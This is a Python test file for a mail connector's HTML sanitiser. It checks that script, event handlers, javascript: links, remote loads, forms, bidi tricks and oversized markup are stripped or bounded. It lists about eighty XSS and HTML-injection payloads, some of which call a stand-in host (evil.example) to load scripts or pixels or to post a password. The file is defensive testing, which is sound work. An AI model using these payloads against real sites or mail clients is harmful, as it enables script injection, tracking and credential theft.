"""HTML of strangers: nothing of it runs, loads, posts or leads astray on the desk."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dunwell.connectors.mail.sanitise import bounded, safe_html, text_of

REL = 'rel="noopener nofollow noreferrer"'
HARMLESS = {"href", "rel", "alt", "colspan", "rowspan"}

# What OWASP's and others' lists of payloads have in common, one of each kind.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    "<img/src/onerror=alert(1)>",
    "<img src=http://evil.example/pixel.gif width=1 height=1>",
    "<img srcset='http://evil.example/a 1x'>",
    "<img src='cid:part1'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='https://evil.example' target=_top onclick=alert(1) rel=opener>x</a>",
    "<a href='https://evil.example' ping='https://evil.example'>x</a>",
    '<a href="https://evil.example/?q=\'&quot;><script>alert(1)</script>">x</a>',
    "<area href='javascript:alert(1)'><map name=x>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<p style='x:expression(alert(1))'>x</p>",
    "<table background='https://evil.example'><td background='https://evil.example'>x</table>",
    "<body onload=alert(1) background='https://evil.example'>x</body>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x>",
    "<video><source onerror=alert(1) src=x></video>",
    "<audio src=x onerror=alert(1)>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<input type=image src=x onerror=alert(1) autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<select onfocus=alert(1)><option>x</select>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<isindex action='javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<dialog open>x</dialog>",
    "<div contenteditable onblur=alert(1)>x</div>",
    "<div id=csrf name=body class=btn hx-post=/holds hx-trigger=load>x</div>",
    "<div data-hx-get='/cases' data-hx-trigger='load'>x</div>",
    "<x onclick=alert(1)>x</x>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "</p></div></body></html><script>alert(1)</script>",
    "<p>unclosed <b title='><script>alert(1)</script>",
    "{{ constructor.constructor('alert(1)')() }}<br>${alert(1)}",
]


class Seen(HTMLParser):
    """What a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


def seen(html: str) -> Seen:
    found = Seen()
    found.feed(html)
    found.close()
    return found


def assert_harmless(html: str) -> None:
    found = seen(html)
    assert {name for name, _ in found.attributes} <= HARMLESS
    assert not found.tags & {
        "script",
        "style",
        "iframe",
        "form",
        "input",
        "button",
        "svg",
        "math",
        "base",
        "meta",
    }
    for name, value in found.attributes:
        if name == "href":
            assert re.match(r"(?i)https?://|mailto:", value or "")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_runs_or_loads(payload: str) -> None:
    assert_harmless(safe_html(payload))
    assert_harmless(safe_html(f"<p>Hi <b>Sam</b></p>{payload}<p>Dana</p>"))
    assert_harmless(safe_html(safe_html(payload)))


@given(
    st.lists(st.sampled_from([*PAYLOADS, "<p>", "</p>", "<b>", '"', "'", ">", "<", "<table>", "<a href="]))
)
def test_nothing_runs_or_loads_whatever_is_put_together(pieces: list[str]) -> None:
    assert_harmless(safe_html("".join(pieces)))


@given(st.text())
def test_any_text_can_be_made_safe(text: str) -> None:
    assert_harmless(safe_html(text))


def test_what_people_write_is_kept() -> None:
    html = "<p>Hi <b>Sam</b>,<br>we pay on <i>Friday</i>.</p><ul><li>one</li></ul><blockquote>Hi Dana</blockquote>"
    assert safe_html(html) == html


def test_tables_keep_their_shape() -> None:
    kept = safe_html(
        '<table border=0><tr><td colspan="2" width=9>a</td><th rowspan="999999">b</th></tr></table>'
    )
    assert kept == '<table><tbody><tr><td colspan="2">a</td><th>b</th></tr></tbody></table>'


@pytest.mark.parametrize(
    "href", ["https://acme.example/po?x=1", "http://acme.example", "mailto:ap@acme.example"]
)
def test_links_lead_to_the_web_or_to_mail(href: str) -> None:
    assert safe_html(f'<a href="{href}" target="_blank">x</a>') == f'<a href="{href}" {REL}>x</a>'


def test_a_link_to_our_own_pages_leads_nowhere() -> None:
    assert safe_html('<a href="/holds/1/end">x</a>') == f"<a {REL}>x</a>"


def test_of_an_image_only_its_words_are_kept() -> None:
    assert safe_html('<img src="https://evil.example/x.gif" alt="Acme logo">') == '<img alt="Acme logo">'


def test_text_cannot_be_turned_around() -> None:
    assert safe_html("<p>pay\u202eot\u2066 &#8238;&#x200b;Acme</p>") == "<p>payot Acme</p>"


def test_only_the_beginning_of_endless_html_is_read() -> None:
    assert len(bounded("x" * 1_000_000)) == 400_000
    assert safe_html("<p>x</p>" * 50_000).count("<p>") == 10_000


def test_a_small_mail_cannot_become_a_large_page() -> None:
    formatting = "".join(f"<b a={number}>" for number in range(3_000))
    assert len(safe_html(f"<p>{formatting}" + "<p>x" * 3_000)) < 250_000
    assert safe_html("<p>" + "<font a=1 " * 30_000) == "<p></p>"


def test_deep_nesting_is_cut() -> None:
    assert safe_html("<div>" * 100_000).count("<div>") == 10_000


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Hi Sam,<br>we pay\non Friday.</p><p>Dana</p>", "Hi Sam,\nwe pay on Friday.\nDana"),
        ("<table><tr><td>EX-1</td><td>1 &lt; 2 &amp;lt;</td></tr></table>", "EX-1 1 < 2 &lt;"),
        ("<p>We pay.</p><blockquote>On Monday Sam wrote</blockquote>", "We pay.\nOn Monday Sam wrote"),
        ("", ""),
    ],
)
def test_the_whole_text_comes_out_of_html(html: str, text: str) -> None:
    assert text_of(safe_html(html)) == text
